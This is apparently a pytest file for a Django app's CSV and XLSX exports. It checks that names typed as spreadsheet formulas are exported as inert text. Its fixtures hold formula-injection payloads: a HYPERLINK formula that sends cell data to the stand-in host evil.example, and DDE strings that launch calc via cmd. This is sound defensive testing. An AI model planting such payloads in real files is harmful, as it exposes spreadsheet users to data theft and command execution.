"""Indicator exports open in a spreadsheet as text: a name typed as a formula
(``=``, ``+``, ``-``, ``@``, tab, carriage return) is never run, numbers stay numbers."""

import csv
import io

import pytest
from openpyxl import load_workbook

from preau.accounts.roles import Role
from preau.catalog.models import Offer, Programme, Theme
from preau.core.testing import TEST_PASSWORD, user_with_role
from preau.scheduling.models import TrainingSession
from preau.selftraining.models import Resource

from .test_rollup import _year_of_activity

pytestmark = pytest.mark.django_db

ATELIER = '=HYPERLINK("https://evil.example/?"&A1,"Atelier")'
THEME = "+cmd|' /C calc'!A0"
OFFER = "-2+3+cmd|' /C calc'!A0"
RESOURCE = "@SUM(1+1)*cmd|' /C calc'!A0"
CONVENTION = "\t=1+1"
PROGRAMME = "\r=1+1"


def _csv(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def _xlsx(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    # XML reads a carriage return back as a line feed
    rows = [[c.value.replace("\n", "\r") if isinstance(c.value, str) else c.value for c in row]
            for row in sheet.iter_rows()]  # fmt: skip
    return rows, sheet


def _cells_starting(rows, text):
    return [cell for row in rows for cell in row if isinstance(cell, str) and text in cell]


@pytest.fixture
def typed(client, net):
    day, sessions = _year_of_activity(net)
    net.x1.name = ATELIER
    net.x1.save()
    Theme.objects.update(name=THEME)
    Offer.objects.update(title=OFFER)
    Resource.objects.update(title=RESOURCE)
    paf = Programme.objects.create(code="PAF-X", name=PROGRAMME)
    TrainingSession.objects.filter(pk=sessions[0].pk).update(
        partner=net.a1, programme=paf, convention=CONVENTION
    )
    admin = user_with_role(Role.NATIONAL_ADMIN)
    client.login(email=admin.email, password=TEST_PASSWORD)
    return day.year


@pytest.mark.parametrize(
    ("url", "params", "typed_texts"),
    [
        ("/pilotage/export.{fmt}", {"par": "atelier"}, [ATELIER]),
        ("/pilotage/export.{fmt}", {"par": "theme"}, [THEME]),
        ("/pilotage/seances/", {"indicateur": "sessions", "export": "{fmt}"}, [OFFER]),
        ("/pilotage/autoformation/", {"export": "{fmt}"}, [RESOURCE]),
        ("/pilotage/conventions/", {"export": "{fmt}"}, [CONVENTION, PROGRAMME]),
    ],
)
def test_typed_formulas_are_exported_as_text(client, typed, url, params, typed_texts):
    for fmt in ("csv", "xlsx"):
        query = {"annee": typed, **{k: v.format(fmt=fmt) for k, v in params.items()}}
        response = client.get(url.format(fmt=fmt), query)
        assert response.status_code == 200
        if fmt == "csv":
            rows = _csv(response)
        else:
            rows, sheet = _xlsx(response)
            assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        for text in typed_texts:
            assert set(_cells_starting(rows, text)) == {"'" + text}, (fmt, text)


def test_numbers_stay_numbers(client, typed):
    rows, _sheet = _xlsx(client.get("/pilotage/export.xlsx", {"annee": typed, "par": "atelier"}))
    assert rows[1][0] == "'" + ATELIER and all(isinstance(v, int | float) for v in rows[1][1:])
    rows = _csv(client.get("/pilotage/export.csv", {"annee": typed, "par": "atelier"}))
    assert rows[1][0] == "'" + ATELIER and rows[1][1:4] == ["1", "2", "9"]
